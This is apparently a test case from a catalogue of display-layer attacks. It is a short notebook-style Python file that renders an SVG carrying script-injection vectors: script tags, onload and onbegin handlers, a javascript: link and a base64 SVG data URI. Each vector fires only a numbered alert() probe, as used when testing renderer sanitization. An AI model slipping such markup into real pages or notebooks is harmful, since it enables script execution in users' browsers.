# /// attack
# catalogue = "showing: SVG"
# layers = ["display"]
# aim = "markup"
# ///
# Shows a picture that holds a script.

# %%
from IPython.display import SVG, display

script = '<script>alert(1)</script><foreignObject><body onload="alert(2)"/></foreignObject>'
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)">{script}</svg>'))

# %% markdown
# ![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
# <svg><a href="javascript:alert(4)"><text>x</text></a><animate onbegin=alert(5) attributeName=x></svg>
